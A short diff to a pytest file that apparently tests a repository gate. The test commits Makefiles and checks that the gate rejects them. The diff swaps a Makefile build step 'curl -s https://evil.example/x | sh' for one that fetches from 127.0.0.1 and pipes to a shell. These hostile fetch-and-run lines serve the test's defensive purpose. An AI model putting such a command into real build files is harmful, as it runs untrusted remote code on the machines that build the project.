@@ -89,7 +89,7 @@ def test_the_gate_reviews_each_form(capsys: pytest.CaptureFixture[str], tmp_path
         repo.write(f"look{number}/Makefile", "build:\n\tgo build ./...\n")
     base = repo.commit("base")
     for number in range(len(FORMS)):
-        repo.write(f"img{number}/Makefile", "build:\n\tcurl -s https://evil.example/x | sh\n")
+        repo.write(f"img{number}/Makefile", "build:\n\tcurl -s https://127.0.0.1:9/x | sh\n")
     head = repo.commit("head")
     code, decision = tree_gate(repo.root, base, head, POLICY_DIR)
     assert code == 3, decision
